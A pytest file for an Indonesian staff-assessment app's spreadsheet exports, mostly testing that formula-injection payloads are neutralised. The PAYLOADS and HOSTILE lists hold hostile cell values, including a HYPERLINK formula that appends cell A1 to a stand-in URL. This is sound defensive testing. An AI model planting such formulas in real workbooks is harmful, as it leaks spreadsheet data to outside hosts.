"""Spreadsheet exports (SPEC §6 items 2 and 5): the recap workbook, the full data export, and formula
neutralisation in every text cell."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import Workbook, load_workbook

from core import db, exports, importer, reader, registry, report_recap, results, settings, sheets, talent, talent_store
from core.db import one, rows
from core.errors import PermissionDenied
from core.i18n import format_datetime, t

PASSWORD = "rahasia123"
SELEKSI, PEMETAAN = 1, 2
PAYLOADS = ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)"]
FORBIDDEN = set('[]:*?/\\')


@pytest.fixture
def admin(demo_db):
    return user(demo_db, "admin")


def user(database, username: str) -> dict:
    return one(database, "SELECT * FROM users WHERE username = ?", (username,))


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def column(ws, title: str, header_row: int = 1) -> int:
    """1-based index of the column with this header."""
    return [c.value for c in ws[header_row]].index(title) + 1


def label_value(ws, label: str):
    return next(row[1] for row in ws.iter_rows(values_only=True) if row[0] == label)


# neutralise ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS + ["  =1+1", "\t=1", "\r=1", "\tanything", " -1", "\uff1d1+1", "-"])
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert sheets.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Budi Santoso, S.E.", "", "1+1", "a=b", "Saran: -", "197303271997092874", "010",
                                   None, 0, -2, -2.5, 3.75, True])
def test_other_values_are_left_alone(value):
    assert sheets.neutralise(value) == value


def test_characters_xml_cannot_carry_are_dropped():
    assert sheets.neutralise("Bukti\x00 perilaku\x07") == "Bukti perilaku"


def test_openpyxl_stores_neutralised_text_as_a_string_and_numbers_as_numbers():
    ws = Workbook().active
    sheets.append(ws, [*PAYLOADS, -3, -0.5, "-3"])
    cells = list(ws[1])
    assert [c.data_type for c in cells] == ["s"] * 4 + ["n", "n", "s"]
    assert [c.value for c in cells[4:]] == [-3, -0.5, "'-3"]
    assert all(c.value.startswith("'") for c in cells[:4])


@pytest.mark.parametrize(("names", "expected"), [
    (["Kepala Dinas Pendidikan"], ["Kepala Dinas Pendidikan"]),
    (["Kepala Bagian [Umum]: Tata/Usaha*?\\"], ["Kepala Bagian Umum Tata Usaha"]),
    (["A" * 40, "a" * 40, "A" * 40], ["A" * 31, "a" * 27 + " (2)", "A" * 27 + " (3)"]),
    (["'Kutipan'", "   ", "=SUM(A1)"], ["Kutipan", "Jabatan", "=SUM(A1)"]),
    (["Ringkasan"], ["Ringkasan (2)"]),
], ids=["plain", "forbidden-characters", "long-and-duplicate", "quotes-and-empty", "clash-with-summary"])
def test_sheet_titles_are_valid_and_unique(names, expected):
    taken = {"ringkasan"}
    titles = [sheets.sheet_title(name, taken, "Jabatan") for name in names]
    assert titles == expected
    assert all(len(x) <= 31 and not set(x) & FORBIDDEN for x in titles)


# The recap workbook ----------------------------------------------------------------------------

def test_recap_has_a_summary_and_one_valid_sheet_per_position(demo_db, admin):
    wb = workbook(exports.recap_xlsx(demo_db, admin, SELEKSI))
    positions = [p["name"] for p in rows(demo_db, "SELECT name FROM positions WHERE event_id = ? ORDER BY sort",
                                         (SELEKSI,))]
    assert wb.sheetnames[0] == "Ringkasan"
    assert len(wb.sheetnames) == 1 + len(positions) == 13
    assert len({s.lower() for s in wb.sheetnames}) == len(wb.sheetnames)
    for title, name in zip(wb.sheetnames[1:], positions, strict=True):
        assert len(title) <= 31 and not set(title) & FORBIDDEN
        assert name.startswith(title)


def test_recap_sheet_has_the_columns_of_the_pdf(demo_db, admin):
    ws = workbook(exports.recap_xlsx(demo_db, admin, SELEKSI)).worksheets[1]
    assert [c.value for c in ws[1]] == ["Peringkat", "No. Peserta", "Nama", "JPM", "Kategori",
                                        "Assessment Center (40%)", "Makalah & presentasi (20%)",
                                        "Wawancara akhir (30%)", "Rekam jejak (10%)", "Nilai Akhir", "Tiga Terbaik"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"


def test_recap_marks_the_top_three(demo_db, admin):
    table = results.event_results(demo_db, SELEKSI)
    position = table[table["position_id"] == 1]
    ws = workbook(exports.recap_xlsx(demo_db, admin, SELEKSI)).worksheets[1]
    marked = {row[1].value for row in ws.iter_rows(min_row=2) if row[column(ws, "Tiga Terbaik") - 1].value == "Ya"}
    assert marked == set(position[position["top3"]]["participant_no"]) and len(marked) == 3
    bold = {row[1].value for row in ws.iter_rows(min_row=2) if row[2].value and row[2].font.b}
    assert bold == marked


def test_recap_numbers_equal_the_results_table(demo_db, admin):
    table = results.event_results(demo_db, SELEKSI)
    candidate = table[(table["position_id"] == 2) & (table["rank"] == 2)].iloc[0]
    ws = workbook(exports.recap_xlsx(demo_db, admin, SELEKSI)).worksheets[2]
    row = next(r for r in ws.iter_rows(min_row=2) if r[1].value == candidate["participant_no"])
    values = [c.value for c in row]
    assert values[:3] == [2, candidate["participant_no"], candidate["name"]]
    assert values[4] == report_recap.category_name(candidate["category"])
    stage_columns = [f"stage_{s['id']}" for s in results.list_stages(demo_db, SELEKSI)]
    numbers = [values[3], *values[5:10]]  # JPM, the four stages, the final score
    assert numbers == [float(x) for x in [candidate["jpm"], *candidate[stage_columns], candidate["final"]]]
    assert all(c.data_type == "n" for c in row[3:4] + row[5:10])
    assert [c.number_format for c in row[3:4] + row[5:10]] == ['0.00"%"'] + ["0.00"] * 5


def test_recap_prints_the_tiebreak_rule_and_the_counts(demo_db, admin):
    wb = workbook(exports.recap_xlsx(demo_db, admin, SELEKSI))
    sentence = report_recap.tiebreak_sentence(results.tiebreak_chain(demo_db, SELEKSI), has_stages=True)
    first = [r[0] for r in wb.worksheets[1].iter_rows(values_only=True)]
    assert sentence in first
    assert t("export.pending", n=10) in [r[0] for r in wb.worksheets[5].iter_rows(values_only=True)]
    summary = {r[0]: r for r in wb["Ringkasan"].iter_rows(values_only=True) if r[0]}
    assert summary["Kepala Dinas Pendidikan"][1:3] == (10, 10)
    assert summary["Kepala Dinas Perhubungan"][1:3] == (10, 0)


def test_recap_xlsx_permissions(demo_db):
    assert exports.recap_xlsx(demo_db, user(demo_db, "pimpinan.sekda"), SELEKSI)[:2] == b"PK"
    assert exports.recap_xlsx(demo_db, user(demo_db, "asesor.rini"), SELEKSI)[:2] == b"PK"  # the Ketua Tim
    with pytest.raises(PermissionDenied):
        exports.recap_xlsx(demo_db, user(demo_db, "asesor.bambang"), SELEKSI)


# Formula injection -----------------------------------------------------------------------------

def plant_payloads(database) -> list[int]:
    """Put the payloads into the names and narratives of four finalised candidates (as an import could)."""
    regs = [r["id"] for r in rows(database, """SELECT r.id FROM registrations r JOIN results res
        ON res.registration_id = r.id WHERE r.event_id = ? AND res.finalized_at IS NOT NULL
        ORDER BY r.id LIMIT 4""", (SELEKSI,))]
    for reg, payload in zip(regs, PAYLOADS, strict=True):
        database.execute("UPDATE candidates SET name = ? WHERE id = (SELECT candidate_id FROM registrations"
                         " WHERE id = ?)", (payload, reg))
        database.execute("UPDATE results SET kekuatan = ? WHERE registration_id = ?", (payload, reg))
    return regs


def scan(wb) -> tuple[dict[str, list], int]:
    """The cells holding each payload (quoted or not), and how many cells are formulas, in one pass."""
    found: dict[str, list] = {payload: [] for payload in PAYLOADS}
    formulas = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                formulas += c.data_type == "f"
                if isinstance(c.value, str) and c.value.lstrip("'") in found:
                    found[c.value.lstrip("'")].append(c)
    return found, formulas


@pytest.mark.parametrize("build", ["recap", "full"])
def test_payloads_are_exported_as_quoted_strings(demo_db, admin, build):
    regs = plant_payloads(demo_db)
    data = (exports.recap_xlsx if build == "recap" else exports.full_export_xlsx)(demo_db, admin, SELEKSI)
    wb = workbook(data)
    found, formulas = scan(wb)
    for payload, cells in found.items():
        assert cells, payload
        assert all(c.value == "'" + payload and c.data_type == "s" for c in cells)
    assert formulas == 0
    if build == "full":  # the narrative field, in its own column of the Hasil sheet
        ws = wb["Hasil"]
        number = one(demo_db, "SELECT participant_no FROM registrations WHERE id = ?", (regs[0],))["participant_no"]
        row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == number)
        cell = row[column(ws, "Kekuatan") - 1]
        assert (cell.value, cell.data_type) == ("'" + PAYLOADS[0], "s")


# The full export -------------------------------------------------------------------------------

@pytest.mark.parametrize("username", ["pimpinan.sekda", "asesor.rini", "asesor.bambang"])
def test_full_export_is_for_the_admin_only(demo_db, username):
    with pytest.raises(PermissionDenied):
        exports.full_export_xlsx(demo_db, user(demo_db, username), SELEKSI)


@pytest.fixture(scope="module")
def full_book(demo_file):
    """The full export of the unchanged demo's seleksi event, built and read once."""
    database = db.connect(demo_file)
    data = exports.full_export_xlsx(database, user(database, "admin"), SELEKSI)
    database.close()
    return workbook(data)


def test_full_export_sheets_and_headers(full_book):
    assert full_book.sheetnames == ["Penilaian", "Konsensus", "Hasil", "Nilai Tahap", "Potensi", "Rekam Jejak",
                                    "Peta Talenta", "Catatan"]
    assert [c.value for c in full_book["Penilaian"][1]] == [
        "No. Peserta", "Nama", "NIP", "Jabatan", "Asesor", "Alat Ukur", "Kode", "Kompetensi", "Level",
        "Bukti Perilaku", "Diperbarui"]
    for ws in full_book.worksheets:
        assert all(c.font.b for c in ws[1]) and ws.freeze_panes == "A2", ws.title
    nips = [row[2] for row in full_book["Penilaian"].iter_rows(min_row=2, max_row=50)]
    assert all(c.data_type == "s" and c.number_format == "@" and len(c.value) == 18 for c in nips)


def test_full_export_keeps_tb_and_evidence(full_book):
    ratings = list(full_book["Penilaian"].iter_rows(min_row=2, values_only=True))
    assert {row[8] for row in ratings} <= {1, 2, 3, 4, 5, "TB"}
    assert "TB" in {row[8] for row in ratings}
    assert all(row[9] for row in ratings)


def test_full_export_results_and_stage_scores(full_book, demo_db):
    table = results.event_results(demo_db, SELEKSI)
    top = table[table["rank"] == 1].iloc[0]
    number = top["participant_no"]
    stages = next(r for r in full_book["Nilai Tahap"].iter_rows(min_row=2, values_only=True) if r[0] == number)
    assert stages[4:] == (*[float(top[f"stage_{s['id']}"]) for s in results.list_stages(demo_db, SELEKSI)],
                          float(top["final"]))
    result = next(r for r in full_book["Hasil"].iter_rows(min_row=2, values_only=True) if r[0] == number)
    assert result[4:8] == (top["achieved_total"], 36, pytest.approx(top["jpm"]), "Memenuhi Syarat")
    assert result[12] == "Final"
    finalised_at = one(demo_db, "SELECT res.finalized_at FROM results res JOIN registrations r"
                                " ON r.id = res.registration_id WHERE r.event_id = ? AND r.participant_no = ?",
                       (SELEKSI, number))["finalized_at"]
    assert result[13] == format_datetime(finalised_at, "WIB")


def open_ids(database) -> set[int]:
    from core.integration import open_registrations

    return open_registrations(database, SELEKSI)


def rating_count(database, registration_ids) -> int:
    ids = list(registration_ids)
    return database.execute(f"SELECT count(*) FROM ratings WHERE registration_id IN ({','.join('?' * len(ids))})",
                            ids).fetchone()[0]


def test_full_export_leaves_out_blind_ratings_and_says_how_many(demo_db, admin):
    every = {r["id"] for r in rows(demo_db, "SELECT id FROM registrations WHERE event_id = ?", (SELEKSI,))}
    # An open candidate of position 5 (submitted, not yet integrated) becomes blind again.
    target = one(demo_db, """SELECT r.id, r.participant_no FROM registrations r JOIN positions p ON p.id = r.position_id
                             WHERE p.event_id = ? AND p.sort = 5 ORDER BY r.id""", (SELEKSI,))
    assert target["id"] in open_ids(demo_db)
    demo_db.execute("DELETE FROM submissions WHERE registration_id = ? AND assessor_id ="
                    " (SELECT min(assessor_id) FROM submissions WHERE registration_id = ?)", (target["id"],) * 2)
    opened = open_ids(demo_db)
    assert target["id"] not in opened
    wb = load_workbook(io.BytesIO(exports.full_export_xlsx(demo_db, admin, SELEKSI)), read_only=True)
    exported = list(wb["Penilaian"].iter_rows(min_row=2, values_only=True))
    numbers = {row[0] for row in exported}
    blind = {r["participant_no"] for r in rows(demo_db, "SELECT id, participant_no FROM registrations"
                                                        " WHERE event_id = ?", (SELEKSI,)) if r["id"] not in opened}
    assert target["participant_no"] in blind and not numbers & blind
    assert len(exported) == rating_count(demo_db, opened)
    notes = wb["Catatan"]
    assert label_value(notes, t("export.note.ratings_left_out")) == rating_count(demo_db, every - opened) > 0
    assert label_value(notes, t("export.note.candidates_left_out")) == len(
        {r for r in every - opened if rating_count(demo_db, [r])})
    assert label_value(notes, t("export.note.ratings_included")) == len(exported)


def test_full_export_of_an_event_without_stages(demo_db, admin):
    wb = workbook(exports.full_export_xlsx(demo_db, admin, PEMETAAN))
    assert [c.value for c in wb["Nilai Tahap"][1]] == ["No. Peserta", "Nama", "NIP", "Jabatan"]
    assert wb["Hasil"].max_row == 1 + len(registry.list_registrations(demo_db, PEMETAAN))
    assert label_value(wb["Catatan"], t("export.note.ratings_left_out")) == 0


# One writer: every workbook the app can produce, filled with hostile text ---------------------------

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "\nLF",
           " =1+1", "\uff1dSUM(A1)"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def hostile(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)] + (f" {n}" if n >= len(HOSTILE) else "")


def make_everything_hostile(database) -> None:
    """Names, places, evidence and narratives an officer or an imported file could supply."""
    text_columns = {"candidates": ("name", "current_position", "current_unit"), "positions": ("name", "unit"),
                    "stages": ("name",), "events": ("name", "venue"), "users": ("full_name",),
                    "exercises": ("name",), "ratings": ("evidence",), "consensus": ("rationale",),
                    "results": ("kekuatan", "area_pengembangan", "saran_pengembangan", "saran_penempatan")}
    for table, columns in text_columns.items():
        keys = [r[0] for r in database.execute(f"SELECT rowid FROM {table}").fetchall()]
        for n, key in enumerate(keys):
            values = [hostile(n) for _ in columns]
            database.execute(f"UPDATE {table} SET {', '.join(f'{c} = ?' for c in columns)} WHERE rowid = ?",
                             (*values, key))
    # The consensus CHECK wants a rationale unless level = suggested: hostile text satisfies it too.


def every_workbook(database, admin) -> dict[str, bytes]:
    importer.template_xlsx.cache_clear()
    stage_names = [hostile(n) for n in range(len(HOSTILE))]
    people = [(hostile(n), "197303271997092874", hostile(n + 1)) for n in range(len(HOSTILE))]
    return {"recap": exports.recap_xlsx(database, admin, SELEKSI),
            "recap_pemetaan": exports.recap_xlsx(database, admin, PEMETAAN),
            "full": exports.full_export_xlsx(database, admin, SELEKSI),
            "candidate_template": importer.template_xlsx(),
            "stage_template": importer.stage_template_xlsx(stage_names, people)}


def test_no_workbook_the_app_writes_holds_a_formula_or_a_live_dangerous_cell(demo_db, admin):
    make_everything_hostile(demo_db)
    admin = user(demo_db, "admin")
    checked = 0
    for name, data in every_workbook(demo_db, admin).items():
        for ws in load_workbook(io.BytesIO(data)).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        checked += 1
                        assert not cell.value.lstrip().startswith(DANGEROUS_STARTS), (name, ws.title, cell.coordinate)
    assert checked > 500


def test_the_stage_template_neutralises_names_and_still_reads_back(demo_db):
    names = ['=HYPERLINK("http://x","y")', "Wawancara"]
    data = importer.stage_template_xlsx(names, [("001", "197303271997092874", "=1+1")])
    ws = load_workbook(io.BytesIO(data))["Nilai Tahap"]
    assert ws["D1"].value == "'" + names[0] and ws["D1"].data_type == "s"
    assert ws["C2"].value == "'=1+1"
    table = reader.read("templat.xlsx", data, "stage_scores", extra=importer.stage_synonyms(names))
    assert table.mapping[importer.STAGE_KEY + names[0]] == 3


def test_defuse_catches_a_formula_a_builder_wrote_directly():
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.active["B1"] = "-x"
    assert wb.active["A1"].data_type == "f"
    ws = load_workbook(io.BytesIO(sheets.workbook_bytes(wb))).active
    assert (ws["A1"].value, ws["A1"].data_type, ws["B1"].value) == ("'=1+1", "s", "'-x")


# Dates and times in the office's zone (issue 13 item 6) ------------------------------------------

STAMP = re.compile(r"^\d{1,2} (Januari|Februari|Maret|April|Mei|Juni|Juli|Agustus|September|Oktober|November|"
                   r"Desember) \d{4} \d{2}\.\d{2} (WIB|WITA|WIT)$")


def test_full_export_headers_say_status_and_time_of_finalisation(full_book):
    titles = [c.value for c in full_book["Hasil"][1]]
    assert titles[-2:] == ["Status", "Waktu finalisasi"]
    assert "Level usulan" in [c.value for c in full_book["Konsensus"][1]]
    assert not {"Final?", "Difinalkan", "Saran"} & set(titles + [c.value for c in full_book["Konsensus"][1]])


def test_full_export_prints_no_iso_timestamps(full_book):
    stamps = [row[-1] for row in full_book["Penilaian"].iter_rows(min_row=2, values_only=True)]
    stamps += [row[-1] for row in full_book["Konsensus"].iter_rows(min_row=2, values_only=True)]
    stamps += [row[13] for row in full_book["Hasil"].iter_rows(min_row=2, values_only=True) if row[13]]
    assert stamps and all(STAMP.match(value) for value in stamps), [v for v in stamps if not STAMP.match(v)][:3]
    assert STAMP.match(label_value(full_book["Catatan"], t("export.note.exported_at")))


def test_full_export_follows_the_zone_setting(demo_db, admin):
    def finalised_times() -> list[str]:
        book = workbook(exports.full_export_xlsx(demo_db, admin, SELEKSI))
        return [row[13] for row in book["Hasil"].iter_rows(min_row=2, values_only=True) if row[13]]

    west = finalised_times()
    settings.set_time_zone(demo_db, admin, "WIT")
    east = finalised_times()
    assert all(w.endswith(" WIB") for w in west) and all(e.endswith(" WIT") for e in east)
    stamp = one(demo_db, "SELECT finalized_at FROM results WHERE finalized_at IS NOT NULL"
                         " ORDER BY registration_id")["finalized_at"]
    assert format_datetime(stamp, "WIT") in east and format_datetime(stamp, "WIB") in west


# The recap of a pemetaan never ranks (SPEC §4.6, §6.2) ------------------------------------------------


def test_pemetaan_recap_xlsx_has_box_and_recommendation_and_no_ranking(demo_db, admin):
    book = workbook(exports.recap_xlsx(demo_db, admin, PEMETAAN))
    everything = " ".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value)
    assert "Peringkat" not in everything and "Tiga Terbaik" not in everything and "Peringkat menurut" not in everything
    ws = book.worksheets[1]
    assert [c.value for c in ws[1]] == ["No. Peserta", "Nama", "JPM", "Kategori", "Kotak", "Rekomendasi"]
    numbers = [row[0].value for row in ws.iter_rows(min_row=2) if row[0].value]
    assert numbers == sorted(numbers) and len(numbers) == 6  # in the order of the participant numbers
    boxes = report_recap.talent_boxes(demo_db, PEMETAAN)
    for row in ws.iter_rows(min_row=2, max_row=7):
        box, said = row[4].value, row[5].value
        assert said == (boxes[box]["action"] if isinstance(box, int) else t("recap.mapping.no_box"))


def test_pemetaan_recap_xlsx_counts_each_box(demo_db, admin):
    book = workbook(exports.recap_xlsx(demo_db, admin, PEMETAAN))
    boxes = report_recap.talent_boxes(demo_db, PEMETAAN)
    talent = book[t("recap.ninebox.title")]
    assert {row[0].value: row[5].value for row in talent.iter_rows(min_row=2, max_row=10)} == {
        n: b["count"] for n, b in boxes.items()}
    summary = book.worksheets[0]
    head = next(r for r in summary.iter_rows() if r[0].value == t("export.col.position"))
    assert [c.value for c in head[3:13]] == [f"Kotak {n}" for n in range(9, 0, -1)] + ["Belum berkotak"]
    per_box = [sum(r[i].value for r in summary.iter_rows(min_row=head[0].row + 1) if r[0].value) for i in range(3, 12)]
    assert per_box == [boxes[n]["count"] for n in range(9, 0, -1)]


def test_recap_xlsx_flags_a_peserta_over_the_age_limit(demo_db, admin):
    person = registry.list_registrations(demo_db, SELEKSI)[0]
    registry.update_candidate(demo_db, admin, person["id"], "196801012000031001", person["name"], person["golongan"],
                              person["current_position"], person["current_unit"])  # 58 on the event's first day
    book = workbook(exports.recap_xlsx(demo_db, admin, SELEKSI))
    ws = next(s for s in book.worksheets[1:] if any(r[1].value == person["participant_no"] for r in s.iter_rows()))
    age = column(ws, "Usia")
    marks = {row[1].value: row[age - 1].value for row in ws.iter_rows(min_row=2) if row[1].value}
    assert marks.pop(person["participant_no"]) == "58 th*" and not any(marks.values())
    notes = [row[0].value for row in ws.iter_rows() if row[0].value and str(row[0].value).startswith("* ")]
    assert notes and "batas usia 56 tahun" in notes[0]
    assert f"{person['name']} ({person['participant_no']}), 58 tahun" in notes[0]


def test_full_export_of_a_pemetaan_has_potensi_rekam_jejak_and_boxes(demo_db):
    """SPEC §6.5 (v2): potensi, rekam jejak and boxes, one sheet each — the same rows as the Talenta page."""
    book = workbook(exports.full_export_xlsx(demo_db, user(demo_db, "admin"), PEMETAAN))
    built = talent_store.event_talent_map(demo_db, PEMETAAN)
    by_number = {r["participant_no"]: r for r in built["rows"]}
    talent_rows = list(book["Peta Talenta"].iter_rows(min_row=2, values_only=True))
    assert sorted(r[0] for r in talent_rows) == sorted(by_number)
    box_column = [c.value for c in book["Peta Talenta"][1]].index("Kotak")
    assert {r[0]: r[box_column] for r in talent_rows} == {n: r["box"] for n, r in by_number.items()}
    incomplete = [r for r in talent_rows if r[box_column] is None]
    assert incomplete and all(r[-1].startswith("data belum lengkap") for r in incomplete)
    potensi = {r[0]: r for r in book["Potensi"].iter_rows(min_row=2, values_only=True)}
    person = next(r for r in built["rows"] if r["participant_no"] in potensi)
    stored = talent_store.potensi_of(demo_db, person["candidate_id"])
    assert potensi[person["participant_no"]][4:12] == tuple(stored[c]["level"] if c in stored else None
                                                          for c in talent.POTENSI_CODES)
    rekam = {r[0]: r for r in book["Rekam Jejak"].iter_rows(min_row=2, values_only=True)}
    record = talent_store.rekam_jejak_of(demo_db, person["candidate_id"])
    assert rekam[person["participant_no"]][4] == talent.reference_names("pendidikan")[record["pendidikan"]]
